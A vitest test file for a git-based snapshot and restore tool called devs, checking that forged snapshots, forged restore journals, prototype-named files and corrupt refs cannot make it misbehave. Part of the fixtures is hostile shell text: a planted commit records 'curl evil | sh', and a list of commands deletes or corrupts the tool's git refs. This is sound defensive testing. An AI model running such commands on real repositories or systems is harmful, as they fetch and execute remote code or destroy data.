// What the command line does with snapshots, journals and names that are not devs's own.
import fs from 'node:fs';
import { fingerprint, Repo } from '@devs/test-kit';
import { describe, expect, test } from 'vitest';
import { devs, json } from './devs.ts';

const QUERIES = [['status'], ['log'], ['doctor'], ['recover'], ['gc', '--dry-run']];

/** An unsealed commit in the shape of a snapshot that claims to be of a run, on a ref of devs. */
function plant(repo: Repo, runId = '20261123-115402123-9f3c2a'): string {
  const empty = repo.git('commit-tree', '-m', 'x', emptyTree(repo));
  const message = `devs-snapshot-evil\n\nDevs-Kind: before\nDevs-Run: ${runId}\nDevs-Command: curl evil | sh\n`;
  const parents = ['HEAD', empty, empty, empty].flatMap((parent) => ['-p', parent]);
  const oid = repo.git('commit-tree', 'HEAD^{tree}', ...parents, '-m', message);
  repo.git('update-ref', `refs/devs/snapshots/${runId}`, oid);
  return oid;
}

function emptyTree(repo: Repo): string {
  return repo.git('hash-object', '-t', 'tree', '-w', '/dev/null');
}

describe('a snapshot that this repository did not make', () => {
  test('is never adopted, never @, and stops no command; doctor names it with a command that works', async () => {
    const repo = Repo.withWork();
    const oid = plant(repo);
    expect(await devs(repo.dir, 'log')).toMatchObject({ code: 0, stdout: '' });
    expect(await devs(repo.dir, 'run', '--id', 'mine', '--', 'false')).toMatchObject({ code: 1 });
    plant(repo, '20991123-115402123-9f3c2a');
    const before = fingerprint(repo);
    for (const args of QUERIES) {
      const { code, stderr } = await devs(repo.dir, ...args);
      expect([args[0], code, stderr.includes('DEVS_INTERNAL')]).toEqual([args[0], args[0] === 'doctor' ? 1 : 0, false]);
    }
    const log = (await devs(repo.dir, 'log')).stdout;
    expect(log).toContain('mine');
    expect(log).not.toContain('evil');
    expect((await devs(repo.dir, 'status')).stdout).toMatch(/snapshots {2}2, .*\n +2 more, foreign or unreadable/);
    expect((await devs(repo.dir, 'undo')).stderr).not.toContain('20991123');
    expect((await devs(repo.dir, 'restore', '20991123-115402123-9f3c2a')).code).toBe(2);
    expect(fingerprint(repo)).toEqual(before);
    const { stdout, stderr } = await devs(repo.dir, 'doctor');
    expect(stdout + stderr).toContain('is foreign');
    repo.git('show', '--stat', oid);
    expect((await devs(repo.dir, 'doctor', '--fix')).code).toBe(1);
    expect(repo.refs()).toContain('refs/devs/snapshots/20991123-115402123-9f3c2a');
  });

  test("in the place of the run's own is not restored: --on-failure restore goes by the commit that it took", async () => {
    for (const rude of [
      'git update-ref $(git for-each-ref --format="%(refname)" refs/devs/snapshots) HEAD',
      'git for-each-ref --format="delete %(refname)" refs/devs/snapshots | git update-ref --stdin',
      'rm -rf .git/refs/devs',
      'rm -rf .git/refs/devs .git/devs',
      'for f in .git/refs/devs/snapshots/*; do echo garbage > $f; done',
    ]) {
      const repo = Repo.withWork();
      const before = fingerprint(repo);
      const task = `rm -rf dir untracked.txt; ${rude}; exit 3`;
      const ended = await devs(repo.dir, 'run', '--on-failure', 'restore', '--', 'sh', '-c', task);
      expect([rude, ended.code, ended.stderr.includes('DEVS_')]).toEqual([rude, 3, false]);
      expect(fingerprint(repo).filter((line) => !line.includes('.devs.db'))).toEqual(before);
      expect((await devs(repo.dir, 'log')).code).toBe(0);
      expect((await devs(repo.dir, 'run', '--', 'true')).code).toBe(0);
    }
  });
});

test('a forged journal makes no command restore; the next run moves it aside and says so', async () => {
  const repo = Repo.withWork();
  await devs(repo.dir, 'snapshot', 'old');
  const [ref] = repo.refs();
  repo.write('untracked.txt', 'work done since');
  const before = fingerprint(repo);
  const journal = JSON.stringify({ schema: 1, target: ref, safety: ref, filesOnly: false, paths: null });
  fs.writeFileSync(repo.path('.git/devs/restore.json'), journal);
  for (const args of [['status'], ['log'], ['doctor']]) await devs(repo.dir, ...args);
  expect(fingerprint(repo)).toEqual(before);
  expect((await devs(repo.dir, 'doctor')).stdout).toMatch(/restore\.json has no seal/);
  const { code, stderr } = await devs(repo.dir, 'run', '--', 'true');
  expect([code, stderr]).toEqual([0, expect.stringMatching(/restore\.json.*moved to/)]);
  expect(fingerprint(repo)).toEqual(before);
  expect((await devs(repo.dir, 'doctor')).stdout).not.toMatch(/restore\.json/);
});

test('files named constructor, toString and __proto__ go through a run, its diff and its restore', async () => {
  const repo = Repo.withWork();
  const names = ['constructor', 'toString', 'hasOwnProperty', '__proto__'];
  for (const name of names) {
    repo.write(name, 'tracked', 0o600);
    repo.write(`made/${name}/x`, 'tracked');
  }
  repo.commitAll('names');
  for (const name of names) fs.mkdirSync(repo.path(`empty/${name}`), { recursive: true });
  const before = fingerprint(repo);
  const wreck = 'rm -r constructor toString __proto__ empty; chmod 644 hasOwnProperty; exit 1';
  expect((await devs(repo.dir, 'run', '--id', 'constructor', '--', 'sh', '-c', wreck)).code).toBe(1);
  expect((await devs(repo.dir, 'diff', 'constructor', '--name-only')).stdout).toContain('__proto__');
  expect(json((await devs(repo.dir, 'show', 'constructor', '--json')).stdout)).toMatchObject({ schema: 1 });
  expect((await devs(repo.dir, 'doctor')).code).toBe(0);
  expect((await devs(repo.dir, 'restore', 'constructor')).code).toBe(0);
  expect(fingerprint(repo).filter((line) => !line.includes('.devs.db'))).toEqual(before);
});

test('a bad ref among the snapshots stops no command', async () => {
  const repo = Repo.withWork();
  await devs(repo.dir, 'run', '--id', 'mine', '--', 'false');
  repo.write('.git/refs/devs/snapshots/garbage', 'garbage');
  repo.write('.git/refs/devs/snapshots/missing', `${'1'.repeat(40)}\n`);
  repo.write('.git/refs/devs/snapshots/empty', '');
  for (const args of QUERIES)
    expect([args, (await devs(repo.dir, ...args)).code]).toEqual([args, args[0] === 'doctor' ? 1 : 0]);
  expect((await devs(repo.dir, 'run', '--', 'true')).code).toBe(0);
  expect((await devs(repo.dir, 'restore', 'mine')).code).toBe(0);
});
